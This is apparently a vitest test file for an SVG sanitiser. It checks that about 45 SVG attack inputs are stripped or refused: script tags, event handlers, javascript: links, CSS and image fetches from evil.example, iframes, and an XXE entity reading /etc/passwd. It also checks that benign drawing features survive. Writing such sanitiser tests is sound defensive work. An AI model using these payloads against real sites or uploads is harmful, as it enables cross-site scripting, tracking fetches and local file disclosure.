import { describe, expect, test } from 'vitest'
import { sanitiseSvg } from './svg.ts'

const wrap = (inside: string, root = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 900 600" ${root}>${inside}</svg>`

/** Ways in which drawings have run scripts or fetched things, after the lists of OWASP and of known holes. */
const attacks = [
  '<script>alert(1)</script>',
  '<script xlink:href="https://evil.example/x.js"/>',
  '<ns:script xmlns:ns="http://www.w3.org/2000/svg">alert(1)</ns:script>',
  '<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>',
  '<rect onload="alert(1)" width="9" height="9"/>',
  '<g onclick="alert(1)" ONMOUSEOVER="alert(1)"><path d="M0 0"/></g>',
  '<a xlink:href="javascript:alert(1)"><text>x</text></a>',
  '<a href="&#106;avascript:alert(1)"><text>x</text></a>',
  '<image href="https://evil.example/x.png"/>',
  '<image xlink:href="data:image/svg+xml;base64,PHN2Zz4="/>',
  '<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/></foreignObject>',
  '<use href="https://evil.example/x.svg#a"/>',
  '<use xlink:href="data:image/svg+xml,<svg/>#x"/>'.replace('<svg/>', '%3Csvg/%3E'),
  '<animate attributeName="href" values="javascript:alert(1)"/>',
  '<set attributeName="onmouseover" to="alert(1)"/>',
  '<animateTransform onbegin="alert(1)"/>',
  '<handler type="text/javascript">alert(1)</handler>',
  '<listener event="load" handler="#x"/>',
  '<style>@import url(https://evil.example/x.css);</style>',
  '<style>rect{background:url(https://evil.example/x.png)}</style>',
  '<style>rect{fill:url("javascript:alert(1)")}</style>',
  '<style>*{behavior:url(x.htc)}</style>',
  '<style>@\\69mport "https://evil.example"</style>',
  '<style><![CDATA[</style><script>alert(1)</script>]]></style>',
  '<rect style="fill:url(https://evil.example/x)" width="1" height="1"/>',
  '<rect style="background-image:url(//evil.example)" width="1" height="1"/>',
  '<rect fill="url(https://evil.example/x#a)" width="1" height="1"/>',
  '<rect filter="url(//evil.example/x#a)" width="1" height="1"/>',
  '<text><![CDATA[</text><script>alert(1)</script>]]></text>',
  '<desc>&lt;script&gt;alert(1)&lt;/script&gt;</desc>',
  '<title>&lt;/title&gt;&lt;img src=x onerror=alert(1)&gt;</title>',
  '<?xml-stylesheet href="https://evil.example/x.css"?>',
  '<!--<script>alert(1)</script>-->',
  '<iframe src="https://evil.example"/>',
  '<embed src="https://evil.example"/>',
  '<object data="https://evil.example"/>',
  '<audio src="https://evil.example/x.mp3" onerror="alert(1)"/>',
  '<video poster="https://evil.example/x.png"/>',
  '<link rel="stylesheet" href="https://evil.example/x.css"/>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example"/>',
  '<feImage href="https://evil.example/x.png"/>',
  '<font-face-uri href="https://evil.example/x"/>',
  '<cursor href="https://evil.example/x"/>',
  '<script href="https://evil.example/x.js" type="module"/>',
  '<g id="x&quot; onload=&quot;alert(1)"/>',
]

describe('a drawing can do nothing but be seen', () => {
  test.each(attacks)('%s', (attack) => {
    const { svg } = sanitiseSvg(wrap(`${attack}<path d="M0 0H9"/>`))
    const tags = svg.match(/<[^>]*>/g) ?? []
    const running =
      /<\/?(script|foreignobject|iframe|image|feimage|a|animate|set|handler|embed|object|link|meta|audio|video)\b/i
    expect(
      tags.filter((tag) => running.test(tag) || / on\w+\s*=\s*"/i.test(tag.replace(/"[^"]*"/g, '""'))),
    ).toEqual([])
    expect(svg).not.toMatch(/evil\.example|<\?xml|<!--|@import|behavior/)
    expect(tags.join('')).not.toMatch(/javascript:|data:/i)
    expect(svg).toContain('<path d="M0 0H9"></path>')
  })

  test('handlers on the root go too', () => {
    const { svg, removed } = sanitiseSvg(wrap('', 'onload="alert(1)"'))
    expect(svg).not.toContain('alert')
    expect(removed).toEqual(['onload'])
  })
})

test('what draws stays: paint, gradients, clips, text, and the size of the view box', () => {
  const drawing = wrap(
    `<defs><linearGradient id="a"><stop offset="0" stop-color="var(--a-sky,#E9EBE4)"/></linearGradient></defs>
    <style>.st0{fill:#0B5563}</style><rect class="st0" style="fill:#fff;stroke-width:2" fill="url(#a)" width="9" height="9"/>
    <text x="4">Hang Én &amp; Sơn Đoòng</text><use xlink:href="#a"/>`,
  )
  const { svg, width, height, removed } = sanitiseSvg(drawing)
  expect([width, height, removed]).toEqual([900, 600, ['style fill']])
  for (const kept of ['var(--a-sky,#E9EBE4)', 'fill="url(#a)"', 'stroke-width="2"', '.st0{fill:#0B5563}']) {
    expect(svg).toContain(kept)
  }
  expect(svg).toContain('Hang Én &amp; Sơn Đoòng')
  expect(svg).toContain('<use href="#a"></use>')
  expect(sanitiseSvg(svg).svg).toBe(svg)
})

test('shapes that repeat each other without end, entities and what is no drawing are refused in words', () => {
  const lines = Array.from({ length: 12 }, (_, n) => {
    return `<g id="l${n + 1}">${`<use href="#l${n}"/>`.repeat(10)}</g>`
  })
  const refusals = [
    wrap(`<rect id="l0" width="1" height="1"/>${lines.join('')}`),
    wrap('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>'),
    wrap('<g>'.repeat(200) + '</g>'.repeat(200)),
    '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>',
    '<html><body><svg/></body></html>',
    '<svg><path',
    'nothing',
    '',
  ]
  for (const refused of refusals) expect(() => sanitiseSvg(refused, 'x.svg')).toThrow(/SVG/)
})
